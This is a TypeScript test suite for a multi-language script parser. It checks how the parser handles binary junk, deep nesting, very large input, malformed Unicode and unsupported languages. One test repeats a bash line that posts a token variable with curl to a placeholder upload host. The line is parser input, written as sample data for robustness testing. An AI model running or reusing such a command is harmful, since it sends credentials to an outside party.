import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { parseScript } from '../../src/scripts/index.js';
import type { Language } from '../../src/scripts/types.js';
import { commands } from './helpers.js';

const LANGUAGES: Language[] = ['bash', 'powershell', 'python', 'javascript'];

/** Deterministic pseudo-random bytes (a linear congruential generator), so failures reproduce. */
function junk(length: number, seed: number): string {
  let x = seed;
  let s = '';
  for (let i = 0; i < length; i++) {
    x = (x * 1103515245 + 12345) & 0x7fffffff;
    s += String.fromCharCode(x % 256);
  }
  return s;
}

describe('robustness', () => {
  for (const language of LANGUAGES) {
    it(`${language}: binary junk yields a script with error entries, never a throw`, async () => {
      const s = await parseScript(junk(20_000, 7), language);
      assert.equal(s.language, language);
      assert.ok(s.errors.length > 0);
      assert.ok(s.errors.length <= 8);
      for (const e of s.errors) assert.ok(e.span.start >= 0 && e.span.end <= s.text.length);
    });
  }

  it('deep nesting is cut off and reported, in every language', async () => {
    const deep: [Language, string][] = [
      ['bash', 'echo ' + '$('.repeat(2000) + 'x' + ')'.repeat(2000)],
      ['bash', '{ '.repeat(2000) + 'x; ' + '}; '.repeat(2000)],
      ['python', 'x = ' + '('.repeat(3000) + '1' + ')'.repeat(3000)],
      ['javascript', 'f(' + '{a:'.repeat(3000) + '1' + '}'.repeat(3000) + ')'],
      ['powershell', '$x = ' + '('.repeat(2000) + '1' + ')'.repeat(2000)],
    ];
    for (const [language, text] of deep) {
      const s = await parseScript(text, language);
      assert.ok(
        s.errors.some((e) => /nesting deeper than/.test(e.message)),
        `${language}: ${s.errors.map((e) => e.message).join('; ')}`,
      );
    }
  });

  it('a 1 MB script is parsed whole', async () => {
    const line = 'curl -sSf -d "token=$T" https://example.invalid/upload\n';
    const text = line.repeat(Math.ceil(1_000_000 / line.length));
    const s = await parseScript(text, 'bash');
    assert.deepEqual(s.errors, []);
    assert.equal(commands(s).length, text.length / line.length);
    assert.equal(commands(s).at(-1)?.span.line, text.length / line.length);
  });

  it('odd text: NULs, lone surrogates, unclosed quotes and expressions', async () => {
    const text = '\0\0 ${{ \uD800 é"\'`$( ${{ secrets.A }';
    for (const language of LANGUAGES) {
      const s = await parseScript(text, language);
      assert.equal(s.exprs.length, 0);
      assert.equal(s.text, text);
    }
  });

  it('unsupported languages are reported, not parsed', async () => {
    for (const language of ['ruby', 'perl', 'cmd', 'unknown'] as Language[]) {
      const s = await parseScript('echo %SECRET%', language);
      assert.deepEqual(s.ops, []);
      assert.equal(s.errors.length, 1);
      assert.match(s.errors[0]?.message ?? '', /not parsed/);
    }
  });

  it('spans use UTF-16 columns after non-ASCII text', async () => {
    const s = await parseScript('echo "héllo ✓" && curl https://x\n', 'bash');
    const curl = commands(s)[1];
    assert.equal(curl?.span.column, 'echo "héllo ✓" && '.length + 1);
    assert.equal(s.text.slice(curl?.span.start, curl?.span.end), 'curl https://x');
  });
});
